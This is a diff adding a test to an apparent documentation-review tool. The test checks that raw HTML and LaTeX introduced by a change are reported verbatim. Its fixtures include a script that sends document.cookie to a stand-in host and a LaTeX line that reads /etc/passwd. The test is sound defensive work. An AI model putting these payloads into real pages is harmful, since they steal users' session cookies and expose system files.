@@ -418,3 +418,45 @@ def test_records_are_matched_by_name_then_by_their_page_and_words() -> None:
     ]
     assert [r["url"] for r in changes.added] == ["new.html#event-2007-02"]
     assert [r["url"] for r in changes.removed] == ["other.html#event-2007"]
+
+
+def test_raw_markup_a_change_adds_or_alters_is_listed_first_verbatim(tmp_path: Path) -> None:
+    """Raw HTML and LaTeX leave the rendered text unchanged (they are left out of it, or are
+    markup): the report lists each piece the change adds or alters, as written, first."""
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    git(repo, "init", "-q", "-b", "main")
+    kept = 'A <span class="x">kept</span> span stays.\n\n'
+    other = "Other\n=====\n\nWords.\n\n.. raw:: latex\n\n   \\newpage\n"
+    toctree = "```{toctree}\nother\n```\n\n"
+    write(
+        repo,
+        {
+            "docs/conf.py": CONF,
+            "docs/index.md": page("Kim", "2010-05", "Arms", kept + toctree),
+            "docs/other.rst": other,
+            "refs.bib": BIB,
+        },
+    )
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "base")
+    added = "<script>fetch('https://t.example/?c='+document.cookie)</script>\n\n"
+    write(
+        repo,
+        {
+            "docs/index.md": page("Kim", "2010-05", "Arms", kept + added + toctree),
+            "docs/other.rst": other.replace("\\newpage", "\\input{/etc/passwd}"),
+        },
+    )
+    result = run_review(repo, tmp_path, "--base", "main", "--out", "-")
+    assert result.returncode == 0, result.stderr
+    report = result.stdout
+    raw = section(report, "Raw HTML and LaTeX added or changed")
+    assert report.index("## Raw HTML and LaTeX") < report.index("- **Pages**")
+    assert "2 raw pieces that this change adds or alters" in raw
+    assert re.search(r"^`index`, line 24: raw HTML$", raw, re.M), raw
+    assert "```html\n<script>fetch('https://t.example/?c='+document.cookie)</script>\n```" in raw
+    assert re.search(r"^`other`, line 6: raw LaTeX$", raw, re.M), raw
+    assert "```latex\n\\input{/etc/passwd}\n```" in raw
+    assert "kept" not in raw and "newpage" not in raw  # unchanged, or gone: not listed
+    assert "- **Raw HTML or LaTeX added or changed**: 2" in report
